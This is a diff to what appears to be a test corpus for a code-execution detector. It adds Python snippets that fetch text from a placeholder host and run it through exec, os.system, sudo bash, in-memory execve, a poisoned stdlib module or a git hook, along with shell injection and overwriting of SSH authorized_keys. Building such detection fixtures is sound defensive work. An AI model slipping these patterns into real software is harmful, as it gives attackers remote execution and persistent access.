@@ -33,6 +33,13 @@ class Feed:
     "the lines of a connection": "import socket\n\nclass Bus:\n    def ask(self):\n        with socket.create_connection(('c.example.invalid', 6380)) as line:\n            return [self.read(line.makefile('rb'))]\n\n    def read(self, file):\n        return file.readline().strip()\n\n    def go(self):\n        (item,) = self.ask()\n        exec(item.decode())\n",
     "decoded": "def undo(t):\n    return bytes.fromhex(t[3:]).decode()\n\ndef go():\n    exec(undo(requests.get(URL).text))\n",
     "a thread": "import threading\ndef run(text):\n    exec(text)\n\ndef go():\n    threading.Thread(target=run, args=(requests.get(URL).text,)).start()\n",
+    "a thread of the builtin": "import threading\n\ndef go():\n    threading.Thread(target=exec, args=(requests.get(URL).text,)).start()\n",
+    "a pool of commands": "import os\n\ndef go(pool):\n    pool.submit(os.system, requests.get(URL).text)\n",
+    "a process instead of this one": "import os, sys\n\ndef go():\n    os.execv(sys.executable, [sys.executable, '-c', requests.get(URL).text])\n",
+    "by way of another program": "import subprocess\n\ndef go():\n    subprocess.run(['sudo', '-n', 'bash', '-c', requests.get(URL).text])\n",
+    "memory that is run": "import os\n\ndef go():\n    fd = os.memfd_create('x')\n    os.write(fd, requests.get(URL).content)\n    os.execve(f'/proc/self/fd/{fd}', ['x'], os.environ)\n",
+    "a module of others": "import json\nfrom pathlib import Path\n\ndef go():\n    Path(json.__file__).with_name('scanner.py').write_text(requests.get(URL).text)\n",
+    "a hook of a repository": "from pathlib import Path\n\ndef go():\n    path = Path('.git/hooks/pre-commit')\n    path.write_text(requests.get(URL).text)\n",
     "a pool": "def run(text):\n    exec(text)\n\ndef go(pool):\n    pool.submit(run, requests.get(URL).text)\n",
     "a queue": "import queue\nJOBS = queue.Queue()\n\ndef go():\n    JOBS.put(requests.get(URL).text)\n\ndef run():\n    exec(JOBS.get())\n",
     "a name of the module": "TEXT = None\n\ndef go():\n    global TEXT\n    TEXT = requests.get(URL).text\n\ndef run():\n    exec(TEXT)\n",
@@ -123,6 +130,9 @@ class Health(BaseHTTPRequestHandler):
 """,
 }
 ONLY_READ = {
+    "part of a command": "import subprocess\n\ndef run(args):\n    subprocess.run(' '.join(args), shell=True)\n\ndef go():\n    run(('tar', 'xzf', requests.get(URL).headers['x']))\n",
+    "data of a module of others": "import json\nfrom pathlib import Path\n\ndef go():\n    Path(json.__file__).with_name('tides.json').write_text(requests.get(URL).text)\n",
+    "keys of a user": "from pathlib import Path\n\ndef go(name):\n    path = Path.home() / '.ssh' / 'authorized_keys'\n    path.write_text(requests.get(f'https://c.example.invalid/{name}.keys').text)\n",
     "a table of what only reads": "def read(a):\n    return a\n\nHOW = {'x': read}\n\ndef go():\n    job = requests.get(URL).json()\n    HOW[job['c']](job['a'])\n    os.system('date')\n",
     "a method of another name": "class Agent:\n    def run_shell(self, a):\n        return os.popen(a).read()\n\n    def do_read(self, a):\n        return a\n\n    def go(self):\n        job = requests.get(URL).json()\n        getattr(self, 'do_' + job['c'])(job['a'])\n",
     "a pattern that is compiled": "import re\n\ndef go():\n    return re.compile(requests.get(URL).text, re.M), os.system('date')\n",
